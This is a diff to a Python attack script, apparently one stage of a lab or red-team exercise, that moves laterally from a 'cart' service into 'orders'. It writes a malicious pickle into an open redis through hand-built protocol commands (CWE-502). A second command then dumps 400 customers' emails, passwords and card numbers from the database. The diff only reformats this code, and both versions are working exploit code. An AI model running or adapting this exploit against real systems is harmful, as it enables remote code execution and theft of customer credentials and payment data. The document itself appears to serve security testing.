@@ -1,6 +1,7 @@
 #!/usr/bin/python3 -B
-"""Credential theft and lateral movement: from cart through redis into orders, with its password into
-the database. orders keeps pickles in redis, and redis lets everybody write (CWE-502, T1021)."""
+"""Credential theft and lateral movement: from cart through redis into orders, with its password
+into the database. orders keeps pickles in redis, and redis lets everybody write
+(CWE-502, T1021)."""
 
 import base64
 import pickle
@@ -8,8 +9,20 @@ import subprocess
 
 from attack import Attack
 
-STEAL = ("python3 -c \"import os, psycopg2; c = psycopg2.connect(os.environ['DATABASE']).cursor();"
-         " c.execute('SELECT mail, password, card FROM customers'); print(*c.fetchall()[:400], sep=chr(10))\"")
+STEAL = """python3 -c "
+import os, psycopg2
+cursor = psycopg2.connect(os.environ['DATABASE']).cursor()
+cursor.execute('SELECT mail, password, card FROM customers ORDER BY id LIMIT 400')
+print(*cursor.fetchall(), sep=chr(10))"
+"""
+# What redis is told, in its own protocol, over a connection of the intruder's.
+WRITE = """
+const data = Buffer.from('%s', 'base64'), to = require('net').connect(6379, 'redis');
+to.write('*5\\r\\n$3\\r\\nSET\\r\\n$13\\r\\norder:%d\\r\\n$' + data.length + '\\r\\n');
+to.write(data);
+to.write('\\r\\n$2\\r\\nEX\\r\\n$2\\r\\n60\\r\\n');
+return new Promise((done) => to.once('data', (said) => { to.destroy(); done(String(said)); }));
+"""
 
 
 class _Run:
@@ -25,11 +38,7 @@ class _Run:
 def in_orders(attack: Attack, number: int, command: str) -> str:
     """Through cart's process, redis and orders' cache."""
     data = base64.b64encode(pickle.dumps(_Run(command), 2)).decode()
-    attack.cart_code(
-        f"const net = require('net'), data = Buffer.from('{data}', 'base64'), to = net.connect(6379, 'redis');"
-        f"to.write(`*5\\r\\n$3\\r\\nSET\\r\\n$13\\r\\norder:{number}\\r\\n$${{data.length}}\\r\\n`); to.write(data);"
-        "to.write('\\r\\n$2\\r\\nEX\\r\\n$2\\r\\n60\\r\\n');"
-        "return new Promise((done) => to.once('data', (said) => { to.destroy(); done(String(said)); }))")
+    attack.cart_code(WRITE % (data, number))
     return attack.ask("GET", f"/orders/{number}")[1]
 
 
